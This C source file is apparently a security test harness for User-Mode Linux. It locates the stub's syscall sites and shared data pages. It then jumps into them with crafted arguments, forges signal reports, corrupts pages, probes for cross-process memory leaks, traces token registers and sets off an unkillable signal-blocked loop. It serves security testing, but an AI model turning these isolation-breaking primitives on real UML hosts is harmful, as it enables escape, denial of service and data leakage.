/* SPDX-License-Identifier: MIT */
/*
 * Attacks what User-Mode Linux maps into every program: the code page through which the guest
 * kernel drives the host process, and the data pages beside it. Each attack runs in a child; the
 * parent tells what came of it and goes on.
 */
#include <errno.h>
#include <setjmp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { PAGE = 4096, PAGES = 64, SITES = 64, PATIENCE_MS = 150, SECRET = 0xa7 };

static const uintptr_t top = 0x7ffffffff000, elsewhere = 0x30000000;

static sigjmp_buf back;

static void fault(int signal)
{
	siglongjmp(back, signal);
}

static volatile unsigned char sink;

static int readable(const unsigned char *p)
{
	if (sigsetjmp(back, 1))
		return 0;
	sink = *p;
	return 1;
}

static int writable(unsigned char *p)
{
	if (sigsetjmp(back, 1))
		return 0;
	*(volatile unsigned char *)p = *p;
	return 1;
}

/* Runs @attack in a child that has a moment to live. */
static void try(const char *name, int a, int b, void (*attack)(int, int))
{
	fflush(stdout);
	pid_t pid = fork();
	if (pid == 0) {
		signal(SIGSEGV, SIG_DFL);
		signal(SIGBUS, SIG_DFL);
		attack(a, b);
		_exit(0);
	}
	if (pid < 0) {
		printf("%s %d %d: no process\n", name, a, b);
		return;
	}
	int status = 0;
	for (int waited = 0; waited < PATIENCE_MS; waited += 2) {
		struct timespec moment = { 0, 2000000 };
		if (waitpid(pid, &status, WNOHANG) == pid) {
			printf("%s %d %d: %s %d\n", name, a, b,
				WIFSIGNALED(status) ? "killed" : "exited",
				WIFSIGNALED(status) ? WTERMSIG(status) : WEXITSTATUS(status));
			return;
		}
		nanosleep(&moment, NULL);
	}
	kill(pid, SIGKILL);
	waitpid(pid, &status, 0);
	printf("%s %d %d: stuck\n", name, a, b);
}

static unsigned char *sites[SITES], *data_pages[PAGES];
static int n_sites, n_data;

static void find(void)
{
	signal(SIGSEGV, fault);
	signal(SIGBUS, fault);
	for (int i = 1; i <= PAGES; i++) {
		unsigned char *p = (unsigned char *)(top - (uintptr_t)i * PAGE);
		if (!readable(p))
			continue;
		if (writable(p)) {
			data_pages[n_data++] = p;
			continue;
		}
		for (int at = 0; at + 1 < PAGE && n_sites < SITES; at++)
			if (p[at] == 0x0f && p[at + 1] == 0x05)
				sites[n_sites++] = p + at;
	}
}

static const struct {
	long nr, args[6];
} calls[] = {
	{ SYS_mmap, { 0x10000000, PAGE, 7, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0 } },
	{ SYS_mmap, { 0x10000000, PAGE, 7, MAP_SHARED | MAP_FIXED, 0, 0 } },
	{ SYS_munmap, { 0x7fffffff0000, 0xf000, 0, 0, 0, 0 } },
	{ SYS_munmap, { 0, 0x7ffffffff000, 0, 0, 0, 0 } },
	{ SYS_recvmsg, { 0, 0x10000000, 0, 0, 0, 0 } },
	{ SYS_futex, { 0x7fffffffd000, 0, 0, 0, 0, 0 } },
	{ SYS_close, { 0, 0, 0, 0, 0, 0 } },
	{ SYS_arch_prctl, { 0x1002, 0x1234, 0, 0, 0, 0 } },
	{ SYS_rt_sigreturn, { 0, 0, 0, 0, 0, 0 } },
	{ SYS_kill, { -1, 9, 0, 0, 0, 0 } },
	{ SYS_exit_group, { 0, 0, 0, 0, 0, 0 } },
	{ SYS_open, { 0x400000, 0, 0, 0, 0, 0 } },
	{ SYS_socket, { 2, 1, 0, 0, 0, 0 } },
	{ SYS_clone, { 0x11, 0, 0, 0, 0, 0 } },
	{ SYS_sendmsg, { 0, 0x10000000, 0, 0, 0, 0 } },
	{ SYS_ioctl, { 4, 0xc0502100, 0x10000000, 0, 0, 0 } },
};

/* As if the kernel's own code had made call @c. */
static void jump(int site, int c)
{
	const long *a = calls[c].args;
	register long r10 __asm__("r10") = a[3];
	register long r8 __asm__("r8") = a[4];
	register long r9 __asm__("r9") = a[5];

	__asm__ volatile("jmp *%[to]"
			 :
			 : [to] "r"((void *)sites[site]), "a"(calls[c].nr), "D"(a[0]), "S"(a[1]),
			 "d"(a[2]), "r"(r10), "r"(r8), "r"(r9)
			 : "rcx", "r11", "memory");
	__builtin_unreachable();
}

/* Maps the guest's physical memory: every descriptor that a stub could have, the token guessed. */
static void memory(int site, int fd)
{
	register long r10 __asm__("r10") = (long)0xfeedfacell << 32 | MAP_SHARED | MAP_FIXED;
	register long r8 __asm__("r8") = fd;
	register long r9 __asm__("r9") = 0;

	if (fd % 2)
		r10 &= 0xffffffff;
	__asm__ volatile("jmp *%[to]"
			 :
			 : [to] "r"((void *)sites[site]), "a"((long)SYS_mmap), "D"(0x10000000l),
			 "S"((long)PAGE), "d"(PROT_READ | PROT_WRITE), "r"(r10), "r"(r8), "r"(r9)
			 : "rcx", "r11", "memory");
	__builtin_unreachable();
}

static const struct {
	long signal, info, frame;
} reports[] = {
	{ SIGSYS, 0, 0 },
	{ SIGSYS, -1, -1 },
	{ SIGSEGV, 0x7fffffffe000, 0x7ffffffff000 },
	{ SIGSYS, 0x7fffffffe000, 0x7fffffffe001 },
	{ SIGSYS, 0x7fffffffeff8, 0x7fffffffe000 },
	{ SIGSYS, 0x7fffffffe000, 0x7fffffffee00 },
	{ SIGSYS, 0x7fffffffd000, 0x7fffffffd000 },
	{ 0, 0, 0 },
	{ 64, 0x7fffffffe000, 0x7fffffffe000 },
	{ -1, 0x7fffffffe000, 0x7fffffffe000 },
};

/* As if the stub had something to report, with call number 24 that does nothing else. */
static void report(int site, int r)
{
	register long r10 __asm__("r10") = -12;
	register long r8 __asm__("r8") = 1000000;

	__asm__ volatile("jmp *%[to]"
			 :
			 : [to] "r"((void *)sites[site]), "a"((long)SYS_sched_yield),
			 "D"(reports[r].signal), "S"(reports[r].info), "d"(reports[r].frame),
			 "r"(r10), "r"(r8)
			 : "rcx", "r11", "memory");
	__builtin_unreachable();
}

/* Spoils the pages in which kernel and stub talk. */
static void spoil(int page, int value)
{
	memset(data_pages[page], value, PAGE);
	for (int i = 0; i < 100; i++)
		getppid();
}

/* The same while the kernel works on it: a system call between every two words. */
static void spoil_slowly(int page, int value)
{
	for (size_t at = 0; at < PAGE; at += 8) {
		memset(data_pages[page] + at, value, 8);
		getppid();
	}
}

/* Leaves a secret where the stub's next program, which may be another user's, could find it. */
static void leave(int page, int value)
{
	void *own = mmap((void *)elsewhere, PAGE, PROT_READ | PROT_WRITE,
		MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);

	memset(own, value, PAGE);
	memset(data_pages[page], value, PAGE);
}

/* Survives only if the memory of an earlier program is still there. */
static void peek(int unused, int value)
{
	(void)unused;
	_exit(*(volatile unsigned char *)elsewhere == value);
}

/* Ends with the number of bytes that an earlier program left. */
static void look(int page, int value)
{
	int found = 0;

	for (int at = 0; at < PAGE; at++)
		found += data_pages[page][at] == value;
	_exit(found < 255 ? found : 255);
}

/* Into the middle of the code, anywhere. */
static void land(int site, int offset)
{
	((void (*)(void))(uintptr_t)((uintptr_t)sites[site] / PAGE * PAGE + (uintptr_t)offset))();
}

/* The stub's signals blocked and no end: only the host's own clock could take the processor back.
 */
static void deaf_loop(int site, int unused)
{
	(void)unused;
	static struct {
		uint64_t flags, link, stack[3], registers[23], mask, fpstate[600];
	} frame;

	frame.registers[16] = (uintptr_t) && loop;
	frame.registers[15] = (uintptr_t)(frame.fpstate + 500);
	frame.registers[18] = 0x002b000000000033;
	frame.mask = ~0ull;
	__asm__ volatile("mov %0, %%rsp\n\tjmp *%1"
			 :
			 : "r"(&frame), "r"((void *)sites[site]), "a"((long)SYS_rt_sigreturn)
			 : "memory");
loop:
	for (;;)
		__asm__ volatile("" : : : "memory");
}

/* What a tracer sees of a process that is found inside the stub, where it might hold the token. */
static void trace(int page_end)
{
	pid_t pid = fork();
	if (pid == 0) {
		signal(SIGSEGV, SIG_DFL);
		ptrace(PTRACE_TRACEME, 0, NULL, NULL);
		raise(SIGSTOP);
		/* Behind the code there are zeros: a store to address 0. */
		__asm__ volatile(
			"mov $0x7061, %%r12d\n\tmov %%r12, %%r13\n\txor %%eax, %%eax\n\tjmp *%0"
			:
			: "r"(((uintptr_t)sites[0] | (PAGE - 1)) - (uintptr_t)page_end)
			: "r12", "r13", "rax");
	}
	int status = 0;
	waitpid(pid, &status, 0);
	ptrace(PTRACE_SETOPTIONS, pid, NULL, PTRACE_O_TRACEEXIT);
	for (int stops = 0; stops < 9 && WIFSTOPPED(status); stops++) {
		ptrace(PTRACE_CONT, pid, NULL, NULL);
		if (waitpid(pid, &status, 0) != pid || !WIFSTOPPED(status))
			break;
		struct user_regs_struct regs;
		ptrace(PTRACE_GETREGS, pid, NULL, &regs);
		printf("trace %x: r12 %llx r13 %llx rdx %llx r10 %llx\n", (unsigned)status >> 8,
			regs.r12, regs.r13, regs.rdx, regs.r10);
	}
	printf("trace: %s\n", WIFSIGNALED(status) ? "killed" : "lives");
}

int main(int argc, char **argv)
{
	const char *kind = argc > 1 ? argv[1] : "";
	setvbuf(stdout, NULL, _IOLBF, 0);
	find();
	printf("found %d calls, %d pages\n", n_sites, n_data);
	if (strcmp(kind, "alone") == 0 && n_sites > 0)
		deaf_loop(argc > 2 ? (argv[2][0] - 'a') % n_sites : 0, 0);
	for (int s = 0; strcmp(kind, "call") == 0 && s < n_sites; s++)
		for (size_t c = 0; c < sizeof calls / sizeof *calls; c++)
			try(kind, s, (int)c, jump);
	for (int s = 0; strcmp(kind, "memory") == 0 && s < n_sites; s++)
		for (int fd = 0; fd < 16; fd++)
			try(kind, s, fd, memory);
	for (int s = 0; strcmp(kind, "report") == 0 && s < n_sites; s++)
		for (size_t r = 0; r < sizeof reports / sizeof *reports; r++)
			try(kind, s, (int)r, report);
	for (int p = 0; strcmp(kind, "spoil") == 0 && p < n_data; p++)
		for (int value = 0; value < 256; value += 51)
			try(kind, p, value, spoil);
	for (int p = 0; strcmp(kind, "slowly") == 0 && p < n_data; p++)
		for (int value = 0; value < 256; value += 51)
			try(kind, p, value, spoil_slowly);
	for (int i = 0; strcmp(kind, "remains") == 0 && i < n_data * 8; i++) {
		try("leave", i % n_data, SECRET, leave);
		try("look", i % n_data, SECRET, look);
		try("peek", 0, SECRET, peek);
	}
	for (int offset = 0; strcmp(kind, "land") == 0 && n_sites > 0 && offset < 2048;
		offset += 61)
		try(kind, 0, offset, land);
	for (int s = 0; strcmp(kind, "deaf") == 0 && s < n_sites; s++)
		try(kind, s, 0, deaf_loop);
	if (strcmp(kind, "trace") == 0 && n_sites > 0)
		trace(16);
	puts("end");
	return 0;
}
